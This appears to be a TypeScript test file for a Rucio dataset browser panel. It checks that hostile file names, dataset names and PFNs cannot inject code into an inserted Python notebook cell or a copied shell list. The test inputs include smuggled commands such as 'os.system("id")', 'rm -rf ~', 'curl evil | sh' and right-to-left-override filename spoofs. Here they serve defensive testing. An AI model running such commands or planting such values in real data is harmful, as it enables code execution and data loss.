// Rucio's names, PFNs and scheme are untrusted text: a hostile file or dataset name must not put
// code into the notebook cell the dataset browser inserts. The cell is parsed by CPython here and
// must be one assignment of a list of exactly the PFNs given, nothing else.
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { copyProblem, fileListCell, firstPfn, pfnList, mergeReplica, fileRow } from '../src/panels/rucio/rucio-files';

const python = fileURLToPath(new URL('../../.venv/bin/python', import.meta.url));

/** What CPython makes of the cell: its statements' kinds and the list's strings (or a syntax error). */
function parseCell(cell: string): { statements: string[]; files: unknown; error?: string } {
  const script = [
    'import ast, json, sys',
    'src = sys.stdin.buffer.read().decode("utf-8", "surrogatepass")',
    'try:',
    '    tree = ast.parse(src)',
    'except (SyntaxError, ValueError) as e:',
    '    print(json.dumps({"statements": [], "files": None, "error": str(e)})); sys.exit(0)',
    'kinds = [type(s).__name__ + ":" + ",".join(t.id for t in getattr(s, "targets", []) if isinstance(t, ast.Name)) for s in tree.body]',
    'files = ast.literal_eval(tree.body[0].value) if kinds == ["Assign:files"] else None',
    'print(json.dumps({"statements": kinds, "files": files}))',
  ].join('\n');
  const out = execFileSync(python, ['-c', script], { input: Buffer.from(cell, 'utf8'), timeout: 30_000 });
  return JSON.parse(out.toString()) as { statements: string[]; files: unknown; error?: string };
}

const hostile = [
  'x\nimport os; os.system("id")\n#',
  'x\rimport os; os.system("id")\r#',
  'x\r\nimport os\r\n#',
  'x\u2028y\u2029z\u0085w\u000bv\u000cu',
  'x\u0000y',
  '"]; import os; os.system("id"); x = ["',
  '\'\'\' """ \\ \\N{BULLET} \\x41 {0} %s',
  'root://h//data/\ud800lone',
];

describe('the inserted file list against hostile Rucio strings', () => {
  it('is one assignment of exactly the PFNs given, whatever the PFNs hold', () => {
    for (const p of hostile) {
      const parsed = parseCell(fileListCell([p, 'davs://ok/f'], 'data26:ds', 'davs'));
      expect(parsed.error, p).toBeUndefined();
      expect(parsed.statements, p).toEqual(['Assign:files']);
      // (a lone surrogate cannot cross JSON into Python's json.dumps and back unchanged; its escape is)
      if (!/[\ud800-\udfff]/.test(p)) expect(parsed.files, p).toEqual([p, 'davs://ok/f']);
    }
  });

  it('keeps a hostile dataset name and scheme inside the header comment', () => {
    for (const bad of hostile) {
      for (const [did, scheme] of [
        [`data26:${bad}`, 'davs'],
        ['data26:ds', bad],
      ]) {
        const cell = fileListCell(['davs://ok/f'], did!, scheme!);
        const parsed = parseCell(cell);
        expect(parsed.error, JSON.stringify([did, scheme])).toBeUndefined();
        expect(parsed.statements, JSON.stringify([did, scheme])).toEqual(['Assign:files']);
        expect(parsed.files).toEqual(['davs://ok/f']);
        expect(cell.split('\n')[0]!.startsWith('# ')).toBe(true);
      }
    }
    // the empty list too
    expect(parseCell(fileListCell([], 'data26:x\nimport os', 'root')).statements).toEqual(['Assign:files']);
  });
});

describe('PFNs from Rucio with unprintable characters', () => {
  it('are passed over, so a copied PFN list holds one clean PFN a line and nothing a shell would run', () => {
    const bad = [
      'davs://h/f\nrm -rf ~\n',
      'davs://h/f\r\ncurl evil | sh',
      'davs://h/f\u202Egnp.exe',
      'davs://h/f\u2028x',
      'davs://h/f\u0000',
      'davs://h/f\u200B',
      'davs://h/f\ud800',
    ];
    for (const p of bad) {
      // the clean one is picked even when the hostile one has the better priority
      expect(firstPfn({ pfns: { [p]: { priority: 1 }, 'davs://h/clean': { priority: 2 } } as never }, 'davs'), JSON.stringify(p)).toBe('davs://h/clean');
      expect(firstPfn({ pfns: { [p]: { priority: 1 } } as never }, 'davs'), JSON.stringify(p)).toBe('');
    }
    const rows = bad.map((p, i) =>
      mergeReplica(fileRow({ scope: 'd', name: `f${i}` } as never), { scope: 'd', name: `f${i}`, pfns: { [p]: { priority: 1 } } } as never, 'davs'),
    );
    const { pfns, missing } = pfnList(rows);
    expect(pfns).toEqual([]);
    expect(missing).toBe(bad.length);
    // a plain PFN is kept, spaces and all
    expect(firstPfn({ pfns: { 'root://h:1094//data/a b.root': { priority: 1 } } as never }, 'root')).toBe('root://h:1094//data/a b.root');
  });
});

describe("a row's copy button", () => {
  it('refuses a DID with a line break or other unprintable character, saying which', () => {
    expect(copyProblem('data26:file.0001.root')).toBeNull();
    expect(copyProblem('davs://h:443/data/a b.root')).toBeNull();
    expect(copyProblem('data26:x\ncurl evil | sh')).toMatch(/U\+000A/);
    expect(copyProblem('data26:x\u202Etxt.exe')).toMatch(/U\+202E/);
    expect(copyProblem('data26:x\u2028y')).toMatch(/U\+2028/);
  });
});
